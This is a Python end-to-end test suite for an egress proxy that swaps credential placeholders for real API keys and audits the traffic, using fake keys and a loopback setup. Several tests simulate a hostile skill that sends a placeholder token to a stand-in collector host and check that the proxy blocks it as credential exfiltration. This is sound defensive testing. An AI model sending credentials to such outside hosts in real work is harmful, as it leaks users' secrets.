"""End to end: import a fake OpenClaw home, run egress on what it wrote, send placeholders.

The generated policies are used as an operator would after the import, with one edit: the
upstreams listen on a test port, not 443, so the guessed rules get `ports: [PORT]`. The test
DNS server answers the real API names (api.anthropic.com, api.github.com) with the loopback
upstream, so nothing leaves the machine. Both OpenClaw patterns run: one identity per skill,
and one shared gateway identity whose placeholders select the key.
"""

from __future__ import annotations

import shutil
import ssl
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest

from egress.cli.main import main
from egress.policy.load import load_policy_dir
from tests.conftest import UPSTREAM_IP, TestCA
from tests.dnsserver import DnsServer
from tests.openclaw.conftest import fake_keys, write_home
from tests.proxy import Proxy, run_proxy
from tests.recording import RecordingUpstream, recording_upstream
from tests.upstream import Upstream, run_upstream, upstream_headers

API_HOSTS = ["api.anthropic.com", "api.github.com"]
WEATHER = "api.openweathermap.org"  # takes its key as ?appid=: a query credential
COLLECTOR = "collector.claw.test"  # somewhere a skill should not send keys


@dataclass
class World:
    layout: str
    proxy: Proxy
    tls: Upstream
    plain: Upstream
    keys: dict[str, str]
    placeholders: dict[str, str]  # "anthropic" / "github" / "weather" -> placeholder
    bundle: str  # egress CA + test CA
    weather: RecordingUpstream  # keeps every byte it received

    def identity(self, key: str) -> str:
        if self.layout == "gateway":
            return "openclaw"
        return {"anthropic": "claude-review", "github": "github", "weather": "weather"}[key]

    def client(self, skill: str) -> httpx.Client:
        return httpx.Client(proxy=self.proxy.url(skill), timeout=15, trust_env=False,
                            verify=ssl.create_default_context(cafile=self.bundle))


def _placeholders(policies: Path) -> dict[str, str]:
    out = {}
    for cred in (c for s in load_policy_dir(policies).skills.values()
                 for c in s.credentials.values()):
        if cred.name.endswith("ANTHROPIC_API_KEY"):
            out["anthropic"] = cred.placeholder
        if cred.name.endswith("GITHUB_TOKEN"):
            out["github"] = cred.placeholder
        if cred.name.endswith("OPENWEATHER_API_KEY"):
            out["weather"] = cred.placeholder
    return out


def _open_test_port(policies: Path, port: int, weather_port: int) -> None:
    """The operator's one edit: the guessed API hosts listen on the test ports."""
    for path in policies.glob("openclaw-*.yaml"):
        text = path.read_text()
        for host, p in [*((h, port) for h in API_HOSTS), (WEATHER, weather_port)]:
            text = text.replace(f"- host: {host}\n", f"- host: {host}\n        ports: [{p}]\n")
        path.write_text(text)


@pytest.fixture(scope="module", params=["per-skill", "gateway"])
def world(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory,
          test_ca: TestCA) -> Iterator[World]:
    layout = request.param
    tmp = tmp_path_factory.mktemp(f"claw-{layout}")
    keys = fake_keys()
    config = write_home(tmp / "home", keys)
    policies, data = tmp / "policies", tmp / "data"
    mp = pytest.MonkeyPatch()
    mp.setenv("HOME", str(tmp / "home"))
    try:
        extra = ["--gateway", "openclaw"] if layout == "gateway" else []
        assert main(["openclaw", "import", "--config", str(config), "--policies", str(policies),
                     "--data-dir", str(data), *extra]) == 0
    finally:
        mp.undo()
    with DnsServer() as dns, \
            run_upstream(UPSTREAM_IP, ca=test_ca.ca, names=[*API_HOSTS, COLLECTOR],
                         tmp=str(tmp)) as tls, \
            run_upstream(UPSTREAM_IP, ca=None, names=[], tmp=str(tmp)) as plain, \
            recording_upstream(UPSTREAM_IP, ca=test_ca.ca, names=[WEATHER]) as weather:
        for name in [*API_HOSTS, COLLECTOR, WEATHER]:
            dns.set(name, [UPSTREAM_IP], ttl=300)
        _open_test_port(policies, tls.port, weather.port)
        shutil.copy(test_ca.path, policies / "upstream-ca.pem")
        (policies / "settings.yaml").write_text(
            "settings:\n"
            f"  dns: {{nameservers: [\"{dns.address}\"], timeout: 2}}\n"
            f"  networks: {{allow: [\"{UPSTREAM_IP}/32\"]}}\n"
            "  upstream_ca: upstream-ca.pem\n")
        skills = ["openclaw"] if layout == "gateway" else ["claude-review", "github", "weather"]
        with run_proxy(policies, data, skills, args=["--admin", "off"]) as proxy:
            bundle = tmp / "bundle.pem"
            bundle.write_text((data / "ca" / "mitmproxy-ca-cert.pem").read_text()
                              + Path(test_ca.path).read_text())
            yield World(layout, proxy, tls, plain, keys, _placeholders(policies), str(bundle),
                        weather)


def echoed_headers(resp: httpx.Response) -> dict[str, str]:
    """The headers the upstream received (egress redacts a key in the echo itself)."""
    assert resp.status_code == 200, resp.text
    return upstream_headers(resp.json()["seen"])


def test_anthropic_placeholder_becomes_the_key_on_its_api_host(world: World) -> None:
    with world.client(world.identity("anthropic")) as c:
        seen = echoed_headers(c.post(f"https://api.anthropic.com:{world.tls.port}/v1/messages",
                                     headers={"x-api-key": world.placeholders["anthropic"]},
                                     json={"model": "claude", "max_tokens": 1}))
    assert seen["x-api-key"] == world.keys["anthropic"]


def test_github_placeholder_becomes_the_key_on_its_api_host(world: World) -> None:
    with world.client(world.identity("github")) as c:
        seen = echoed_headers(c.get(f"https://api.github.com:{world.tls.port}/user",
                                    headers={"Authorization": f"Bearer {world.placeholders['github']}"}))
    assert seen["authorization"] == f"Bearer {world.keys['github']}"


def test_weather_placeholder_in_the_url_becomes_the_key_in_appid(world: World) -> None:
    # The import moved a key OpenWeather takes as ?appid=: the skill keeps working with the
    # placeholder in the URL, and the API receives the key there, not in a header.
    world.weather.reset()
    ph, key = world.placeholders["weather"], world.keys["openweather"]
    with world.client(world.identity("weather")) as c:
        resp = c.get(f"https://{WEATHER}:{world.weather.port}/data/2.5/weather",
                     params={"q": "Berlin", "appid": ph})
    assert resp.status_code == 200
    assert world.weather.request_lines() == [
        f"GET /data/2.5/weather?q=Berlin&appid={key} HTTP/1.1"]
    assert ph.encode() not in world.weather.received()
    assert b"authorization" not in world.weather.received().lower()


def test_weather_placeholder_in_a_url_to_another_host_is_refused(world: World) -> None:
    # A hostile skill puts the placeholder in another host's query string: refused before
    # any connection, audited, and the key's own host saw nothing.
    world.weather.reset()
    with httpx.Client(proxy=world.proxy.url(world.identity("weather")), timeout=15,
                      trust_env=False) as c:
        resp = c.get(f"http://{COLLECTOR}:{world.plain.port}/c",
                     params={"appid": world.placeholders["weather"]})
    assert resp.status_code == 403
    body = resp.json()
    assert body["reason"] == "credential_exfiltration"
    assert world.proxy.audit_for(body["request_id"])["reason"] == "credential_exfiltration"
    assert world.weather.accepted == 0


def test_placeholder_over_plain_http_to_another_host_is_refused(world: World) -> None:
    with httpx.Client(proxy=world.proxy.url(world.identity("github")), timeout=15,
                      trust_env=False) as c:
        resp = c.get(f"http://{COLLECTOR}:{world.plain.port}/collect",
                     headers={"Authorization": f"Bearer {world.placeholders['github']}"})
    assert resp.status_code == 403
    body = resp.json()
    assert body["reason"] == "credential_exfiltration"
    assert world.proxy.audit_for(body["request_id"])["reason"] == "credential_exfiltration"


def test_gateway_placeholder_sent_to_another_keys_host_is_refused(world: World) -> None:
    if world.layout != "gateway":
        pytest.skip("per skill, github's identity does not hold the anthropic credential")
    with world.client("openclaw") as c:
        resp = c.get(f"https://api.github.com:{world.tls.port}/user",
                     headers={"x-api-key": world.placeholders["anthropic"]})
    assert resp.status_code == 403
    assert resp.json()["reason"] == "credential_exfiltration"


def test_an_untouched_tunnel_never_carries_the_key(world: World) -> None:
    # Report mode lets the unlisted collector through without interception: egress cannot
    # see inside, so the placeholder travels, but never the key it stands for.
    with world.client(world.identity("github")) as c:
        seen = echoed_headers(c.get(f"https://{COLLECTOR}:{world.tls.port}/echo",
                                    headers={"Authorization": f"Bearer {world.placeholders['github']}"}))
    assert seen["authorization"] == f"Bearer {world.placeholders['github']}"
    assert world.keys["github"] not in str(seen)


def test_no_key_in_the_audit_log_or_the_proxy_log(world: World) -> None:
    text = world.proxy.audit_path.read_text() + world.proxy.log()
    assert not [name for name, key in world.keys.items() if key in text]
